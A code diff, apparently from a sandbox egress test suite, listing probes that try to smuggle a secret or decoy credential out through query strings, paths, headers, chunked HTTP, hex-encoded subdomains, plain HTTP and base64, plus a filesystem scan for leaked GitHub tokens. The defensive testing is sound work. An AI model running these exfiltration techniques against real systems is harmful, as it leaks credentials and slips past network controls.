@@ -21,13 +21,15 @@ function leak(what: string, tries: string, text: string, { isSilent, ...more }: 
   };
 }
 
-const URL = "'https://' + env.ALLOWED_HOST";
-const to = (rest: string): string => `curl(${rest}, ${URL} + '/')`;
+/** What goes there is refused whole, and arrives nowhere (operator-received): not even with its secret left out. */
+export const LEAK = "/leak";
+const URL = `'https://' + env.ALLOWED_HOST + '${LEAK}'`;
+const to = (rest: string): string => `curl(${rest}, ${URL})`;
 const DECOY = `import { readFileSync } from "node:fs"; const decoy = JSON.parse(readFileSync(process.env.HOME + "/.config/backup/credentials.json", "utf8")).secret_key;`;
 
 export const EXFILTRATION: readonly Probe[] = [
-  leak("query", "sends a secret in a query", `curl(${URL} + '/?q=' + env.BOUND)`),
-  leak("path", "sends it as a part of a path", `curl(${URL} + '/x/' + env.BOUND + '/y')`),
+  leak("query", "sends a secret in a query", `curl(${URL} + '?q=' + env.BOUND)`),
+  leak("path", "sends it as a part of a path", `curl(${URL} + '/' + env.BOUND + '/y')`),
   leak("header", "sends it in a header of its own", to("'-H', 'X-Note: ' + env.BOUND")),
   leak(
     "header-name",
@@ -66,7 +68,7 @@ export const EXFILTRATION: readonly Probe[] = [
   leak(
     "chunks",
     "sends a body in chunks that cut it in two",
-    `const half = env.BOUND.length >> 1; const parts = [env.BOUND.slice(0, half), env.BOUND.slice(half)]; await tunnel({ to: env.ALLOWED_HOST + ":443", say: "POST / HTTP/1.1\\r\\nHost: " + env.ALLOWED_HOST + "\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n" + parts.map((part) => part.length.toString(16) + "\\r\\n" + part + "\\r\\n").join("") + "0\\r\\n\\r\\n" })`,
+    `const half = env.BOUND.length >> 1; const parts = [env.BOUND.slice(0, half), env.BOUND.slice(half)]; await tunnel({ to: env.ALLOWED_HOST + ":443", say: "POST ${LEAK} HTTP/1.1\\r\\nHost: " + env.ALLOWED_HOST + "\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n" + parts.map((part) => part.length.toString(16) + "\\r\\n" + part + "\\r\\n").join("") + "0\\r\\n\\r\\n" })`,
   ),
   leak(
     "trailer",
@@ -78,9 +80,9 @@ export const EXFILTRATION: readonly Probe[] = [
   leak(
     "host-name",
     "writes it into the name of a host, where whatever is below another is allowed",
-    "curl('https://' + Buffer.from(env.BOUND).toString('hex') + '.' + env.WIDE_HOST + '/')",
+    `curl('https://' + Buffer.from(env.BOUND).toString('hex') + '.' + env.WIDE_HOST + '${LEAK}')`,
   ),
-  leak("clear", "sends it over plain HTTP", "curl('http://' + env.CLEAR_HOST + '/?q=' + env.BOUND)"),
+  leak("clear", "sends it over plain HTTP", `curl('http://' + env.CLEAR_HOST + '${LEAK}?q=' + env.BOUND)`),
   leak(
     "websocket",
     "sends it as a WebSocket's message",
@@ -121,13 +123,13 @@ setTimeout(() => sent ? got("nobody stopped it") : refused("silence"), 2000);`,
   leak(
     "decoy-encoded",
     "sends the decoy in base64, in a query",
-    `${DECOY} curl(${URL} + '/?k=' + Buffer.from(decoy).toString('base64url'))`,
+    `${DECOY} curl(${URL} + '?k=' + Buffer.from(decoy).toString('base64url'))`,
     { refused: ["canary-found"] },
   ),
   leak(
     "through-token-host",
     "sends a secret to a host that has a credential of its own",
-    "curl('https://' + env.TOKEN_HOST + '/?q=' + env.BOUND)",
+    `curl('https://' + env.TOKEN_HOST + '${LEAK}?q=' + env.BOUND)`,
   ),
   leak(
     "echoed-credential",
@@ -176,7 +178,7 @@ function searchText(): string {
 const wanted = new Set([env.TOKEN_SHA256, env.GIT_TOKEN_SHA256, env.KEY_LINE_SHA256]); let files = 0;
 const skip = new Set(["/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot"]);
 const look = (path) => { let text; try { text = readFileSync(path, "latin1"); } catch { return; }
-  files++;
+  files++; text = text.replaceAll("\\\\n", "\\n");
   for (const [piece] of text.matchAll(/gh[p]_[0-9a-f]{36}|[A-Za-z0-9+/=]{70}/g)) if (wanted.has(createHash("sha256").update(piece).digest("hex"))) got("found in " + path); };
 const walk = (folder) => { let names = []; try { names = readdirSync(folder); } catch { return; }
   for (const name of names) { const path = (folder === "/" ? "" : folder) + "/" + name; if (skip.has(path)) continue;
